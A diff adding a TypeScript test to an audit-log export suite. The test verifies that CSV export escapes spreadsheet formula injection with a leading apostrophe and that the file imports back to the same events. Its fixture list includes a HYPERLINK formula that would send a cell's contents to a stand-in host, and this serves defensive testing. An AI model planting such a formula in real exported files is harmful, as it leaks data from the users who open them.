@@ -259,6 +259,35 @@ describe('export and the command handlers', () => {
     }
   });
 
+  it('a value a spreadsheet would run as a formula (=, +, -, @, tab, CR first) is exported with a leading apostrophe, and the CSV imports back to the same events', async () => {
+    const risky = ['=HYPERLINK("http://x.test/?"&A1,"open")', '+1+1', '-2+3', '@SUM(A1:A2)', '\tcmd', '\r=x', "'=already quoted", "'plain apostrophe", 'plain'];
+    const events = risky.map((v, i) => makeEvent(900 + i, { category: v, action: { ...(makeEvent(900 + i).action as object), project_name: v, data: { note: v } } }));
+    const src = openService(join(tmp.dir, 'formulas.db'));
+    const back = openService(join(tmp.dir, 'formulas-back.db'));
+    try {
+      const file = join(tmp.dir, 'formulas.ndjson');
+      writeFileSync(file, events.map((e) => JSON.stringify(e)).join('\n') + '\n');
+      expect((await src.import([file]))[0]).toMatchObject({ accepted: risky.length, rejected: 0 });
+      const out = await src.export({ format: 'csv', path: join(tmp.dir, 'formulas.csv'), filters: {}, sort: { field: 'date', dir: 'asc' } });
+      const text = readFileSync(out.path, 'utf8');
+      // No cell of the file begins with a formula's first character (a quoted cell's content counted too).
+      for (const cell of text.split(/,|\r\n/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
+      expect(text).toContain(`'@SUM(A1:A2)`);
+      expect(text).toContain(`''=already quoted`);
+      expect(text).toContain(`,'plain apostrophe,`);
+      expect((await back.import([out.path]))[0]).toMatchObject({ accepted: risky.length, rejected: 0 });
+      for (const e of events) {
+        const got = back.event(e.event_id as string)!.event;
+        expect(got.category).toBe(e.category);
+        expect((got.action as Record<string, unknown>).project_name).toBe((e.action as Record<string, unknown>).project_name);
+        expect((got.action as Record<string, unknown>).data).toEqual((e.action as Record<string, unknown>).data);
+      }
+    } finally {
+      await src.close();
+      await back.close();
+    }
+  });
+
   it('validates requests with the contract and answers through the handlers', async () => {
     const h = auditHandlers(service);
     const req = auditCommands['audit.query'].request.parse({ filters: { requestId: 'req_1' }, withTotal: true });
